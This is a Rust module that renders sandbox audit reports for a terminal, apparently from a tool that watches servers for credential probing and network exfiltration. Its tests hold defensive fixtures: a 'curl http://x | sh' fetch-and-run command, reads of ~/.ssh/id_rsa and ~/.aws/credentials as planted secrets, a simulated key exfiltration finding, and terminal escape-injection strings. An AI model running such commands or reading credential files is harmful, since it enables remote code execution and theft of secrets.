//! The terminal renderer: the audit as lines for a person at a terminal, in color when asked.
//!
//! It shows the header (target, verdict, what the run recorded), then the sections of
//! [`crate::sections`] a terminal has room for: the files touched under home, the processes,
//! the connection attempts, the network, the tools, the surface exercised, and the checks with
//! each check's findings and notes under it (the HTML and Markdown reports show the findings
//! apart, and add the timeline). A table has no heading row here: each value reads as its column's [`Line`]
//! says, padded columns aligned up to [`COLUMN`] characters. Every string is printable
//! already (see [`crate::escape`]); the only escape sequences written are this module's own
//! colors, and only when asked for.

use crate::escape;
use crate::sections::{self, Body, Cell, Check, Items, Line, Mark, Section, Table};
use crate::tables;
use glassbox_model::{AuditReport, Evidence, Outcome, Verdict};
use std::fmt::Write as _;

/// Widest first column before it stops being padded.
const COLUMN: usize = 44;

const BOLD: &str = "1";
const DIM: &str = "2";
const RED: &str = "1;31";
const GREEN: &str = "32";
const YELLOW: &str = "33";

struct Style {
    color: bool,
}

impl Style {
    fn paint(&self, code: &str, s: &str) -> String {
        if self.color {
            format!("\x1b[{code}m{s}\x1b[0m")
        } else {
            s.to_string()
        }
    }

    fn heading(&self, out: &mut String, title: &str) {
        let _ = writeln!(out, "\n{}", self.paint(BOLD, title));
    }
}

pub(crate) fn render(ev: &Evidence, report: &AuditReport, color: bool) -> String {
    let st = Style { color };
    let mut out = String::new();
    header(&mut out, &st, ev, report);
    let [checks, _] = sections::check_sections(report);
    for sec in sections::event_sections(ev).into_iter().chain([
        sections::network_section(ev),
        sections::tools_section(ev, report),
        sections::surface_section(report),
        checks,
    ]) {
        section(&mut out, &st, &sec);
    }
    out
}

fn header(out: &mut String, st: &Style, ev: &Evidence, report: &AuditReport) {
    let _ = writeln!(
        out,
        "{} {}",
        st.paint(BOLD, "glassbox audit"),
        tables::command(ev)
    );
    let code = match report.verdict {
        Verdict::Clean => GREEN,
        Verdict::Flagged => RED,
        Verdict::Withheld | Verdict::Inconclusive => YELLOW,
    };
    let label = tables::verdict(report.verdict);
    let _ = writeln!(out, "  verdict   {}", st.paint(code, label));
    if let Some(reason) = &report.inconclusive_reason {
        let _ = writeln!(out, "  reason    {}", escape::text(reason));
    }
    let _ = writeln!(out, "  run       {}", escape::text(&report.run_id));
    let _ = writeln!(out, "  evidence  {}", escape::text(&report.evidence_dir));
    let _ = writeln!(out, "  session   {}", tables::session(ev));
    if let Some(text) = tables::server_exit(ev) {
        let _ = writeln!(out, "  server    {text}");
    }
    let _ = writeln!(out, "  recorded  {}", tables::recorded(ev));
    if let Some(text) = tables::network(ev) {
        let _ = writeln!(out, "  network   {text}");
    }
    if let Some(text) = tables::install(ev) {
        let _ = writeln!(out, "  install   {text}");
    }
    if let Some(text) = tables::readme_config(ev) {
        let _ = writeln!(out, "  started   {text}");
    }
    if let Some(text) = tables::starts(ev) {
        let _ = writeln!(out, "  restarted {text}");
    }
}

fn pad(s: &str, width: usize) -> String {
    let n = s.chars().count();
    if n >= width {
        format!("{s}  ")
    } else {
        format!("{s}{}", " ".repeat(width - n + 2))
    }
}

fn more(out: &mut String, st: &Style, shown: usize, total: usize, indent: &str, see: &str) {
    if total > shown {
        let line = format!("… and {} more (see {see})", total - shown);
        let _ = writeln!(out, "{indent}{}", st.paint(DIM, &line));
    }
}

/// The verdict and the checks only (for re-evaluations, which keep no event tables).
pub(crate) fn render_checks(report: &AuditReport, color: bool) -> String {
    let st = Style { color };
    let mut out = String::new();
    let _ = writeln!(
        out,
        "  verdict   {}",
        format!("{:?}", report.verdict).to_uppercase()
    );
    if let Some(r) = &report.inconclusive_reason {
        let _ = writeln!(out, "  reason    {}", escape::text(r));
    }
    let [checks, _] = sections::check_sections(report);
    section(&mut out, &st, &checks);
    out
}

/// A section ([`sections::Section`]): its heading, then its body.
fn section(out: &mut String, st: &Style, sec: &Section) {
    st.heading(out, &sec.title);
    body(out, st, &sec.body);
}

fn body(out: &mut String, st: &Style, b: &Body) {
    match b {
        // In the terminal's own voice: lower case, no full stop ("None." is "none").
        Body::Note(why) => {
            let why = why.strip_suffix('.').unwrap_or(why);
            let mut chars = why.chars();
            let first = chars.next().map(|c| c.to_lowercase().to_string());
            let _ = writeln!(out, "  {}{}", first.unwrap_or_default(), chars.as_str());
        }
        Body::Text(text) => {
            let _ = writeln!(out, "  {}", st.paint(DIM, text));
        }
        Body::Table(t) => table(out, st, t),
        // The terminal writes each check's findings and notes under it.
        Body::Checks(checks) | Body::Findings(checks) => {
            for c in checks {
                check(out, st, c);
            }
        }
        Body::Parts(parts) => {
            for p in parts {
                body(out, st, p);
            }
        }
    }
}

/// A value of a table's row as a line shows it: its column, its text, and whether it is a
/// status that holds (green) or not (red).
struct Shown {
    column: usize,
    text: String,
    good: Option<bool>,
}

/// A table as lines without headings: each column as its [`Line`] says, two spaces apart,
/// the values of a padded column aligned (up to [`COLUMN`] characters).
fn table(out: &mut String, st: &Style, t: &Table) {
    // Each row's values, and the `×N` it ends with.
    let rows: Vec<(Vec<Shown>, String)> = t
        .rows
        .iter()
        .map(|r| {
            let mut shown = Vec::new();
            let mut times = String::new();
            for (n, (column, c)) in t.columns.iter().zip(r).enumerate() {
                let (value, good) = match c {
                    Cell::Mono(t) | Cell::Text(t) | Cell::Own(t) => (t.clone(), None),
                    Cell::Num(n) => (n.to_string(), None),
                    Cell::Ms(ns) => (tables::ms(*ns), None),
                    Cell::Status { good, text } => (text.to_string(), Some(*good)),
                };
                let value = match column.line {
                    Line::Pad | Line::Plain => value,
                    Line::Named => format!("{} {value}", column.title),
                    Line::Unit => format!("{value} {}", column.title),
                    Line::Times => {
                        if let Cell::Num(n @ 2..) = c {
                            times = format!(" ×{n}");
                        }
                        continue;
                    }
                    Line::Omit => continue,
                };
                if !value.is_empty() {
                    shown.push(Shown {
                        column: n,
                        text: value,
                        good,
                    });
                }
            }
            (shown, times)
        })
        .collect();
    let mut widths = vec![0; t.columns.len()];
    for v in rows.iter().flat_map(|(shown, _)| shown) {
        widths[v.column] = widths[v.column].max(v.text.chars().count().min(COLUMN));
    }
    for (shown, times) in &rows {
        let mut line = String::from("  ");
        for (k, v) in shown.iter().enumerate() {
            let painted = match v.good {
                Some(true) => st.paint(GREEN, &v.text),
                Some(false) => st.paint(RED, &v.text),
                None => v.text.clone(),
            };
            line.push_str(&painted);
            if k + 1 < shown.len() {
                let width = match t.columns[v.column].line {
                    Line::Plain => 0,
                    _ => widths[v.column],
                };
                let used = v.text.chars().count();
                line.push_str(&" ".repeat(width.saturating_sub(used) + 2));
            }
        }
        let _ = writeln!(out, "{line}{times}");
    }
    more(out, st, t.rows.len(), t.total, "  ", t.see);
}

/// A check's line (its id, outcome, claim and severity), its reason, then its findings and
/// notes.
fn check(out: &mut String, st: &Style, c: &Check) {
    let (label, code) = match c.outcome {
        Outcome::Pass => ("pass", GREEN),
        Outcome::Flag => ("FLAG", RED),
        Outcome::Unverified => ("unverified", YELLOW),
        Outcome::NotObserved => ("not observed", YELLOW),
        Outcome::Inconclusive => ("inconclusive", YELLOW),
        Outcome::Retracted => ("retracted", YELLOW),
    };
    let id = format!("{} v{}", c.id, c.version);
    let severity = if c.outcome == Outcome::Flag {
        format!(" ({})", tables::severity(c.severity))
    } else {
        String::new()
    };
    let _ = writeln!(
        out,
        "  {}{}  {}{severity}",
        pad(&id, 22),
        st.paint(code, &format!("{label:<12}")),
        c.claim
    );
    if let Some(reason) = &c.reason {
        let _ = writeln!(out, "      {}", st.paint(DIM, reason));
    }
    items(out, st, &c.findings);
    items(out, st, &c.notes);
}

/// Findings or notes, each with its events and phase, then how many more there are.
fn items(out: &mut String, st: &Style, list: &Items) {
    let mark = match list.mark {
        Mark::Finding => st.paint(RED, list.mark.glyph()),
        Mark::Note => list.mark.glyph().to_string(),
    };
    for i in &list.shown {
        // What it refers to, as HTML and Markdown say it (the flows too), the phase bare.
        let mut refs: Vec<String> = [&i.events, &i.flows]
            .into_iter()
            .filter(|r| !r.is_empty())
            .cloned()
            .collect();
        refs.extend(i.phase.clone());
        let _ = write!(out, "    {mark} ");
        if i.withheld {
            let _ = write!(out, "{} ", st.paint(YELLOW, "withheld until reviewed:"));
        }
        out.push_str(&i.summary);
        if !refs.is_empty() {
            let _ = write!(
                out,
                "  {}",
                st.paint(DIM, &format!("[{}]", refs.join("; ")))
            );
        }
        out.push('\n');
    }
    more(out, st, list.shown.len(), list.total, "      ", list.see);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fixture::{event, exec, open};
    use crate::tables::{
        CONNECTIONS_CAP, FILES_CAP, FINDINGS_CAP, NOTES_CAP, PROCESSES_CAP, TOOLS_CAP,
    };
    use glassbox_model::{
        Bytes, CallResult, CheckResult, EventKind, Finding, Manifest, Phase, SandboxSettings,
        SessionSummary, Severity, SockAddr, Target, ToolSummary,
    };

    fn evidence(kinds: Vec<(Phase, EventKind)>) -> Evidence {
        Evidence {
            manifest: Manifest {
                run_id: "run-42".into(),
                target: Target {
                    command: vec!["node".into(), "server.js".into()],
                    ..Target::default()
                },
                sandbox: SandboxSettings {
                    home: "/home/user".into(),
                    cwd: "/home/user/project".into(),
                    ..SandboxSettings::default()
                },
                session: SessionSummary {
                    completed: true,
                    ..SessionSummary::default()
                },
                ..Manifest::default()
            },
            events: kinds
                .into_iter()
                .enumerate()
                .map(|(i, (p, k))| event(i as u64 + 1, 2 + i as i32, p, k))
                .collect(),
            transcript: vec![],
            flows: vec![],
        }
    }

    fn report(checks: Vec<CheckResult>, tools: Vec<ToolSummary>) -> AuditReport {
        AuditReport {
            glassbox_version: "0.1.0".into(),
            run_id: "run-42".into(),
            evidence_dir: "/var/lib/glassbox/run-42".into(),
            verdict: Verdict::Flagged,
            inconclusive_reason: None,
            checks,
            tools,
            call_outcomes: Default::default(),
            surface: Default::default(),
        }
    }

    fn check_result(outcome: Outcome, findings: Vec<Finding>, notes: Vec<Finding>) -> CheckResult {
        CheckResult {
            id: "credential-probe".into(),
            version: 1,
            claim: "no credential probing".into(),
            severity: Severity::High,
            outcome,
            reason: None,
            findings,
            notes,
        }
    }

    fn finding(summary: &str, evidence: Vec<u64>, phase: Phase) -> Finding {
        Finding {
            check: "credential-probe".into(),
            version: 1,
            summary: summary.into(),
            evidence,
            phase: Some(phase),
            accusation: false,
            flows: Vec::new(),
        }
    }

    fn call(t: &str) -> Phase {
        Phase::Call(t.into())
    }

    fn sample() -> (Evidence, AuditReport) {
        let ev = evidence(vec![
            (Phase::Startup, exec(&["node", "server.js"])),
            (Phase::Startup, open(b"/home/user/project/package.json", 0)),
            (call("get_weather"), open(b"/home/user/.ssh/id_rsa", 0)),
            (call("get_weather"), open(b"/home/user/x/../.ssh/id_rsa", 0)),
            (
                Phase::Shutdown,
                EventKind::Stat {
                    syscall: "statx".into(),
                    path: "/home/user/.ssh/id_rsa".into(),
                },
            ),
            (Phase::Startup, open(b"/home/user/.bashrc", 0o1101)),
            (Phase::Startup, open(b"/usr/lib/node/x.js", 0)),
            (call("run"), exec(&["sh", "-c", "curl http://x | sh"])),
            (
                call("get_weather"),
                EventKind::Connect {
                    syscall: "connect".into(),
                    fd: 5,
                    addr: SockAddr::Inet {
                        ip: "198.18.0.7".into(),
                        port: 443,
                    },
                    sock_type: None,
                },
            ),
        ]);
        let rep = report(
            vec![
                check_result(
                    Outcome::Flag,
                    vec![finding(
                        "read + stat of ~/.ssh/id_rsa (planted secret) during call:get_weather",
                        vec![3, 4, 5],
                        call("get_weather"),
                    )],
                    vec![],
                ),
                CheckResult {
                    id: "process-spawn".into(),
                    claim: "spawns no shells or network tools".into(),
                    outcome: Outcome::Pass,
                    severity: Severity::Medium,
                    ..check_result(Outcome::Pass, vec![], vec![])
                },
            ],
            vec![
                ToolSummary {
                    name: "get_weather".into(),
                    called: true,
                    result: CallResult::Ok,
                    calls: Vec::new(),
                },
                ToolSummary {
                    name: "run".into(),
                    called: false,
                    result: CallResult::NotCalled,
                    calls: Vec::new(),
                },
            ],
        );
        (ev, rep)
    }

    #[test]
    fn sections_are_present_in_order() {
        let (ev, rep) = sample();
        let out = render(&ev, &rep, false);
        println!("{out}");
        let mut at = 0;
        for s in [
            "glassbox audit node server.js",
            "verdict   FLAGGED",
            "run       run-42",
            "evidence  /var/lib/glassbox/run-42",
            "Files touched under home",
            "Processes",
            "Connection attempts",
            "Tools (2)",
            "Checks",
        ] {
            let found = out[at..]
                .find(s)
                .unwrap_or_else(|| panic!("{s:?} missing in\n{out}"));
            at += found + s.len();
        }
        assert!(!out.contains('\x1b'), "no ANSI without color");
    }

    #[test]
    fn files_are_collapsed_per_normalized_path_with_what_and_phases() {
        let (ev, rep) = sample();
        let out = render(&ev, &rep, false);
        let line = |needle: &str| {
            out.lines()
                .find(|l| l.trim_start().starts_with(needle))
                .unwrap_or_else(|| panic!("{needle} missing in\n{out}"))
                .to_string()
        };
        let ssh = line("~/.ssh/id_rsa");
        assert!(ssh.contains("read+stat"), "{ssh}");
        assert!(ssh.contains("call:get_weather, shutdown"), "{ssh}");
        assert!(ssh.ends_with("×3"), "{ssh}");
        assert!(line("~/.bashrc").contains("write"));
        assert!(line("~/project/package.json").contains("read"));
        assert!(!out.contains("/usr/lib/node"), "only files under home");
        assert!(line("pid 9  parent 1").contains("sh -c 'curl http://x | sh'"));
        let conn = line("198.18.0.7:443");
        assert!(
            conn.contains("connect") && conn.contains("call:get_weather"),
            "{conn}"
        );
    }

    #[test]
    fn checks_show_outcome_claim_findings_and_evidence() {
        let (ev, rep) = sample();
        let out = render(&ev, &rep, false);
        assert!(out.contains("credential-probe v1"), "{out}");
        assert!(
            out.contains("FLAG") && out.contains("no credential probing (high)"),
            "{out}"
        );
        assert!(out.contains("✗ read + stat of ~/.ssh/id_rsa"), "{out}");
        assert!(out.contains("[events 3, 4, 5; call:get_weather]"), "{out}");
        assert!(out.contains("process-spawn v1"), "{out}");
        assert!(out.contains("pass") && out.contains("spawns no shells or network tools"));
    }

    #[test]
    fn the_surface_exercised_follows_the_tools() {
        let (ev, rep) = crate::fixture::normal();
        let out = render(&ev, &rep, false);
        let at = out.find("\nSurface exercised\n").expect("the section");
        assert!(out.find("\nTools (2)\n").unwrap() < at, "{out}");
        assert!(at < out.find("\nChecks\n").unwrap(), "{out}");
        for line in [
            "  1 of 2 tools called (1 call), 1 of 1 resource read, 1 of 1 template expanded (2 reads), 0 of 1 prompt got, 1 completion requested; the server asked: 1 elicitation/create (1 canary given), 2 sampling/createMessage",
            "  resource           mem://notes     ok",
            "  resource template  file:///{path}  2 reads: ok 1, rpc error 1  1 completion; first error: no such file",
            "  prompt             summarize       not got",
            "  read:file:///home/user/.aws/credentials  path: a planted credential  rpc error  no such file",
            "  Left out: the calls' budget ran out: 1 prompt got fewer gets than its plan",
        ] {
            assert!(out.lines().any(|l| l == line), "{line:?} missing in\n{out}");
        }
        // A report made before the surface was recorded says so.
        let old = AuditReport {
            surface: Default::default(),
            ..rep
        };
        let out = render(&ev, &old, false);
        assert!(
            out.contains("Surface exercised\n  not recorded: the report was made before"),
            "{out}"
        );
    }

    #[test]
    fn an_accusation_says_it_is_withheld_and_every_finding_its_flows() {
        let (ev, rep) = crate::fixture::normal();
        let out = render(&ev, &rep, false);
        for line in [
            "    ✗ read + stat of ~/.ssh/id_rsa (planted secret) during call:get_weather  [events 3, 4, 5; call:get_weather]",
            "    ✗ withheld until reviewed: sent ~/.ssh/id_rsa to api.example.com  [event 9; flows 1, 2; call:get_weather]",
        ] {
            assert!(out.lines().any(|l| l == line), "{line:?} missing in\n{out}");
        }
    }

    #[test]
    fn empty_sections_say_none() {
        let ev = evidence(vec![]);
        let rep = AuditReport {
            verdict: Verdict::Inconclusive,
            inconclusive_reason: Some("the session did not complete: timeout".into()),
            ..report(vec![], vec![])
        };
        let out = render(&ev, &rep, false);
        assert!(out.contains("Connection attempts\n  none\n"), "{out}");
        assert!(out.contains("Files touched under home\n  none\n"), "{out}");
        assert!(out.contains("Processes\n  none\n"), "{out}");
        assert!(out.contains("Tools (0)\n  none listed\n"), "{out}");
        assert!(out.contains("verdict   INCONCLUSIVE"), "{out}");
        assert!(
            out.contains("reason    the session did not complete: timeout"),
            "{out}"
        );
    }

    #[test]
    fn hostile_strings_are_escaped() {
        let evil = "x\x1b]0;owned\x07\x1b[2J\nFAKE LINE\r\u{202e}txt";
        let mut ev = evidence(vec![
            (call(evil), open(format!("/home/user/{evil}").as_bytes(), 0)),
            (Phase::Startup, exec(&["sh", "-c", evil])),
            (
                Phase::Startup,
                EventKind::Connect {
                    syscall: "connect".into(),
                    fd: 3,
                    addr: SockAddr::Unix {
                        path: Bytes::from(evil),
                        is_abstract: false,
                    },
                    sock_type: None,
                },
            ),
            (Phase::Startup, open(b"/home/user/\xff\x9b31m", 0)),
        ]);
        ev.manifest.session.completed = false;
        ev.manifest.session.failure = Some(evil.into());
        let mut rep = report(
            vec![check_result(
                Outcome::Flag,
                vec![finding(evil, vec![1], call(evil))],
                vec![finding(evil, vec![2], Phase::Startup)],
            )],
            vec![ToolSummary {
                name: evil.into(),
                called: true,
                result: CallResult::Ok,
                calls: Vec::new(),
            }],
        );
        rep.inconclusive_reason = Some(evil.into());
        for color in [false, true] {
            let out = render(&ev, &rep, color);
            for bad in ['\x07', '\r', '\u{202e}', '\u{9b}'] {
                assert!(!out.contains(bad), "{bad:?} in\n{out}");
            }
            assert!(!out.contains("\nFAKE LINE"), "{out}");
            assert!(!out.contains("\x1b]"), "{out}");
            assert!(!out.contains("\x1b[2J"), "{out}");
            // The only escape sequences are our own colors.
            let stripped = out
                .replace("\x1b[0m", "")
                .replace("\x1b[1m", "")
                .replace("\x1b[2m", "")
                .replace("\x1b[32m", "")
                .replace("\x1b[33m", "")
                .replace("\x1b[1;31m", "");
            assert!(!stripped.contains('\x1b'), "{stripped}");
            assert!(out.contains("x\\u{1b}]0;owned\\u{7}\\u{1b}[2J\\nFAKE LINE\\r\\u{202e}txt"));
            assert_eq!(out.contains("\x1b[1;31mFLAG"), color);
        }
    }

    #[test]
    fn long_lists_are_capped() {
        let mut kinds = Vec::new();
        for i in 0..(FILES_CAP + 7) {
            kinds.push((
                Phase::Startup,
                open(format!("/home/user/f{i}").as_bytes(), 0),
            ));
        }
        for i in 0..(PROCESSES_CAP + 3) {
            kinds.push((Phase::Startup, exec(&["git", &format!("{i}")])));
        }
        for i in 0..(CONNECTIONS_CAP + 1) {
            kinds.push((
                Phase::Startup,
                EventKind::Connect {
                    syscall: "sendto".into(),
                    fd: 3,
                    addr: SockAddr::Inet {
                        ip: format!("10.0.0.{i}"),
                        port: 53,
                    },
                    sock_type: None,
                },
            ));
        }
        let ev = evidence(kinds);
        let tools = (0..TOOLS_CAP + 2)
            .map(|i| ToolSummary {
                name: format!("t{i}"),
                called: true,
                result: CallResult::Ok,
                calls: Vec::new(),
            })
            .collect();
        let findings = (0..FINDINGS_CAP + 4)
            .map(|i| finding(&format!("f{i}"), vec![1], Phase::Startup))
            .collect();
        let notes = (0..NOTES_CAP + 5)
            .map(|i| finding(&format!("n{i}"), (1..=20).collect(), Phase::Startup))
            .collect();
        let rep = report(vec![check_result(Outcome::Flag, findings, notes)], tools);
        let out = render(&ev, &rep, false);
        assert!(out.contains("… and 7 more (see events.jsonl)"), "{out}");
        assert!(out.contains("… and 3 more (see events.jsonl)"), "{out}");
        assert!(out.contains("… and 1 more (see events.jsonl)"), "{out}");
        assert!(out.contains("… and 2 more (see report.json)"), "{out}");
        assert!(out.contains("… and 4 more (see report.json)"), "{out}");
        assert!(out.contains("… and 5 more (see report.json)"), "{out}");
        assert!(
            out.contains("[events 1, 2, 3, 4, 5, 6, 7, 8, +12; startup]"),
            "{out}"
        );
        assert!(!out.contains(&format!("~/f{FILES_CAP}")), "{out}");
        assert!(out.contains(&format!("~/f{}", FILES_CAP - 1)), "{out}");
        assert!(out.lines().count() < 200);
    }
}

#[cfg(test)]
mod network_tests {
    use super::*;
    use glassbox_model::{
        Bytes, Flow, FlowProtocol, Manifest, NetworkMode, NetworkRun, NetworkSettings, SockAddr,
    };

    fn flow(mode: NetworkMode, sni: &[u8]) -> Flow {
        Flow {
            id: 1,
            mode,
            t_ns: 1,
            end_ns: 2,
            protocol: FlowProtocol::Tcp,
            src: None,
            dst: SockAddr::Inet {
                ip: "192.0.2.80".into(),
                port: 443,
            },
            dns_name: None,
            dns: None,
            sni: Some(Bytes(sni.to_vec())),
            http: None,
            packets_out: 3,
            bytes_out: 517,
            bytes_in: 0,
            sample: Bytes(vec![]),
            sample_truncated: false,
            events: vec![7],
            note: None,
            ..Default::default()
        }
    }

    #[test]
    fn flows_are_grouped_per_run_and_hostile_names_stay_inert() {
        let ev = Evidence {
            manifest: Manifest {
                network: NetworkSettings {
                    runs: vec![
                        NetworkRun {
                            mode: NetworkMode::Capture,
                            isolation_verified: true,
                            ..NetworkRun::default()
                        },
                        NetworkRun {
                            mode: NetworkMode::Denied,
                            isolation_verified: true,
                            ..NetworkRun::default()
                        },
                    ],
                    ..NetworkSettings::default()
                },
                ..Manifest::default()
            },
            events: vec![],
            transcript: vec![],
            flows: vec![
                flow(NetworkMode::Capture, b"dns.google\x1b[2J"),
                flow(NetworkMode::Capture, b"dns.google\x1b[2J"),
                flow(NetworkMode::Denied, b"x"),
            ],
        };
        let mut out = String::new();
        section(
            &mut out,
            &Style { color: false },
            &sections::network_section(&ev),
        );
        assert!(
            out.contains(
                "  capture  0 packets  2 flows  isolation verified  0 calls with no packet\n"
            ),
            "{out}"
        );
        assert!(
            out.contains("  capture  tcp  192.0.2.80:443 SNI dns.google\\u{1b}[2J  2 flows  6 packets out  1034 bytes out\n"),
            "{out}"
        );
        assert!(
            out.contains(
                "  denied   tcp  192.0.2.80:443 SNI x                    1 flows  3 packets out"
            ),
            "{out}"
        );
        assert!(!out.contains('\x1b'), "{out}");
    }
}
